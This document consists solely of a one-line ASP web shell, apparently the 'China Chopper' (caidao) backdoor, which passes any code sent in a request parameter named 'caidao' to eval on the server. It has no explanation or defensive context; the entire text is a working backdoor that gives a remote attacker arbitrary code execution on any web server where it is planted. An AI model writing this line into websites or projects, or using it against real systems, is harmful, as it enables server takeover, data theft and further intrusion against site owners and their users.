<%eval request("caidao")%>
